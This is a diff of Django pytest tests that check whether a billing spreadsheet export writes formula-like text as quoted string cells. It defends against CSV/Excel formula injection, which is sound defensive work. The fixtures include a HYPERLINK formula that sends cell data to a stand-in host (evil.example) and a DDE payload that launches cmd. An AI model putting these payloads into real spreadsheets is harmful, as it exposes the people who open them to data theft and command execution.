@@ -7,41 +7,33 @@ from decimal import Decimal
 import pytest
 from django.core.management import CommandError, call_command
 from django.utils import translation
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
 
 from billing import exports
 from billing.errors import BillingError
-from billing.exports import export_settlement, safe_text
+from billing.exports import export_settlement
 from billing.models import Statement
 from billing.services import settle
 from config.months import SHANGHAI
+from config.xlsx import text_cell
 from tests.billing.conftest import MONTH, City
 from vouchers.models import Redemption
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
 
 
-@pytest.mark.parametrize(
-    ("text", "shown"),
-    [
-        ("=1+1", "'=1+1"),
-        ("+86 138", "'+86 138"),
-        ("-2", "'-2"),
-        ("@SUM(A1)", "'@SUM(A1)"),
-        ("\tcmd", "'\tcmd"),
-        ("\rcmd", "'\rcmd"),
-        ("王秀英", "王秀英"),
-        ("a=b", "a=b"),
-        ("", ""),
-    ],
-)
-def test_safe_text_neutralises_text_that_looks_like_a_formula(text, shown):
-    assert safe_text(text) == shown
+@pytest.mark.parametrize("text", ["=1+1", "+86 138", "-2", "@SUM(A1)", "\tcmd", "\rcmd"])
+def test_text_that_looks_like_a_formula_is_a_quoted_string_cell(text):
+    cell = text_cell(Workbook(write_only=True).create_sheet(), text)
+    # The text is kept exactly, as a string (never <f>), with Excel's quote prefix
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
 
 
-def test_safe_text_leaves_numbers_and_dates_alone():
-    for value in (Decimal("-1.50"), -3, None, dt.datetime(2026, 10, 1, 8, 0)):
-        assert safe_text(value) == value
+def test_other_values_are_written_as_they_are():
+    sheet = Workbook(write_only=True).create_sheet()
+    for value in ("王秀英", "a=b", "", Decimal("-1.50"), -3, dt.datetime(2026, 10, 1, 8, 0)):
+        cell = text_cell(sheet, value)
+        assert cell.value == value and not cell.quotePrefix
 
 
 @pytest.fixture
@@ -171,9 +163,13 @@ def test_names_that_look_like_formulas_are_written_as_text(settled_city, tmp_pat
                 assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
     detail = rows_of(workbook["明细"])[1:]
     senior_names = {row[4] for row in detail}
-    assert any(name.startswith("'=") for name in senior_names)  # the masked =HYPERLINK… name
-    assert {row[2] for row in detail if row[1] == "prov-b"} == {"'+cmd|' /C calc'!A0"}
-    assert {row[13] for row in detail if row[1] == "prov-b"} == {"'@SUM(1+1)"}
+    assert any(name.startswith("=") for name in senior_names)  # the masked =HYPERLINK… name
+    assert {row[2] for row in detail if row[1] == "prov-b"} == {"+cmd|' /C calc'!A0"}
+    assert {row[13] for row in detail if row[1] == "prov-b"} == {"@SUM(1+1)"}
+    quoted = [
+        cell for row in workbook["明细"].iter_rows() for cell in row if str(cell.value).startswith("+cmd")
+    ]
+    assert quoted and all(cell.quotePrefix for cell in quoted)
 
 
 def test_one_provider_can_be_exported_alone(settled_city):
